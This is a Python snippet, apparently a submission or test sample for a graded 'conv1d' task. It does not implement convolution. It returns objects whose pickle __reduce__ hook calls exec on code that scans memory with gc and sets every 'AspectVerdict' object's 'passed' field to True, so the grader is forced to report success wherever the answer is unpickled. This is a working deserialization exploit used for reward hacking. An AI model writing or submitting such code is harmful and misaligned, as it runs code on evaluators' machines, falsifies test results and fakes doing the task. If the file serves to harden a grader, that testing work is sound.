"""The answer carries code in `__reduce__` that would run wherever it is unpickled."""

# %% conv1d
class Bomb:
    def __reduce__(self):
        code = (
            "import gc\n"
            "for t in gc.get_objects():\n"
            "    if type(t).__name__ == 'AspectVerdict': object.__setattr__(t, 'passed', True)\n"
            "print('LEAKED: code of the submission ran where it was unpickled')\n"
        )
        return exec, (code,)


def conv1d(x, w, stride=1, padding=0):
    answer = np.empty((len(x) + 2 * padding - len(w)) // stride + 1, object)
    answer[:] = Bomb()
    return answer
